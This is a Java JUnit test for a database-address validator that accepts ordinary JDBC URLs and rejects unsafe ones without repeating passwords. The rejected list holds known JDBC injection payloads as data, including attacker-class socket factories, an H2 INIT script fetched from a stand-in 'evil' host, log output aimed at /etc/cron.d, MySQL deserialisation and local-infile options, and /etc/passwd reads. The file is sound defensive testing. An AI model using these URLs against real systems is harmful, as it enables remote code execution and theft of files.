package dev.winnow.connections;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.winnow.problem.WinnowException;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Which addresses may be connected to. */
final class DatabaseAddressTest {
  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "jdbc:postgresql://crm.example.com/sales | POSTGRESQL",
        "jdbc:postgresql://crm:5433,crm2:5433/sales?sslmode=verify-full&targetServerType=any"
            + " | POSTGRESQL",
        "jdbc:postgresql://[::1]:5432/sales | POSTGRESQL",
        "jdbc:postgresql://h/d?sslfactory=org.postgresql.ssl.DefaultJavaSSLFactory | POSTGRESQL",
        "jdbc:mysql://10.0.0.8:3306/crm?sslMode=trust | MYSQL",
        "jdbc:mariadb://db/crm?CONNECTTIMEOUT=5000 | MARIADB",
        "jdbc:sqlserver://erp;databaseName=Sales;encrypt=true | SQLSERVER",
        "jdbc:sqlserver://erp\\SQLEXPRESS:1433;databaseName=Sales | SQLSERVER",
        "jdbc:oracle:thin:@//ora:1521/orcl | OTHER",
        "jdbc:db2://host:50000/SAMPLE | OTHER",
      })
  void an_address_of_a_known_form_is_taken(String url, DatabaseKind kind) {
    assertThat(DatabaseAddress.of(url).kind()).isEqualTo(kind);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "http://crm/",
        "jdbc:postgresql:sales",
        "jdbc:postgresql://h/d?socketFactory=org.example.Evil",
        "jdbc:postgresql://h/d?socketFactoryArg=http://evil/x.xml",
        "jdbc:postgresql://h/d?sslfactory=org.example.Evil",
        "jdbc:postgresql://h/d?loggerFile=/etc/cron.d/x&loggerLevel=TRACE",
        "jdbc:postgresql://h/d?sslmode=require&sslrootcert=/etc/passwd",
        "jdbc:postgresql://h/d?user=me",
        "jdbc:postgresql://h/d?PASSWORD=geheim",
        "jdbc:postgresql://me:geheim@h/d",
        "jdbc:mysql://h/d?allowLoadLocalInfile=true",
        "jdbc:mysql://h/d?autoDeserialize=true&queryInterceptors=x",
        "jdbc:mariadb://h/d?allowLocalInfile=true",
        "jdbc:mariadb://h/d?serverSslCert=/etc/passwd",
        "jdbc:mysql://address=(host=h)(user=me)/d",
        "jdbc:sqlserver://h;databaseName=d;socketFactoryClass=org.example.Evil",
        "jdbc:sqlserver://h;databaseName={a;trustManagerClass=x}",
        "jdbc:sqlserver://h;password=geheim",
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "jdbc:h2:file:/etc/x",
        "jdbc:sqlite:/etc/passwd",
        "jdbc:derby://h/d;create=true",
        "jdbc:oracle:thin:@//ora:1521/orcl?x=y",
        "jdbc:postgresql://h/d?sslmode=require\n&x=y",
      })
  void anything_else_is_refused_without_repeating_a_secret(String url) {
    assertThatThrownBy(() -> DatabaseAddress.of(url))
        .isInstanceOf(WinnowException.class)
        .message()
        .startsWith("/url")
        .doesNotContain("geheim");
  }
}
